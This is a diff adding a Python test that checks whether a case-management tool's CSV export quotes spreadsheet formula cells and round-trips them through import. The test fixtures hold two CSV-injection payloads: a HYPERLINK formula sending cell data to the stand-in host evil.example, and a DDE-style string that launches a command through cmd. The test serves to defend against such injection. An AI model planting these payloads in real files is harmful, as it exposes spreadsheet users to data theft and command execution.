@@ -131,3 +131,33 @@ def test_joined_values_split_back_exactly(values: list[str]) -> None:
     if values == [""]:  # one empty value and no value are the same empty cell
         return
     assert split_values(join_values(values)) == values
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+def test_formula_cells_are_quoted_and_round_trip(
+    tmp_path: Path, sqlite_db: Path, new_outage: Callable[..., NewCase], capsys: pytest.CaptureFixture[str]
+) -> None:
+    opened = open_database(resolve_target(sqlite_db), create=True)
+    try:
+        service = CaseService(opened.store, FrozenClock(T0), default_policy(), actor="lead@example.com")
+        service.open_case(new_outage(add_customer(opened.store, name=FORMULA), title="@SUM(1+1)*cmd|' /C calc'!A0"))
+    finally:
+        opened.store.close()
+    exported = tmp_path / "cases.csv"
+    assert main(["export", "cases", str(exported), "--db", str(sqlite_db)]) == 0
+    (row,) = read_csv(exported)
+    assert row["customer"] == "'" + FORMULA and row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["customer_arr"] == "1200000" and not row["customer_arr"].startswith("'")  # numbers stay numbers
+    empty = tmp_path / "empty.sqlite"
+    assert main(["init", "--db", str(empty)]) == 0
+    assert main(["import", "cases", str(exported), "--db", str(empty)]) == 0
+    again = tmp_path / "again.csv"
+    assert main(["export", "cases", str(again), "--db", str(empty)]) == 0
+    assert again.read_bytes() == exported.read_bytes()
+    reopened = open_database(resolve_target(empty))
+    try:
+        assert _customer_id(reopened.store, FORMULA)  # the quote was the export's, not part of the name
+    finally:
+        reopened.store.close()
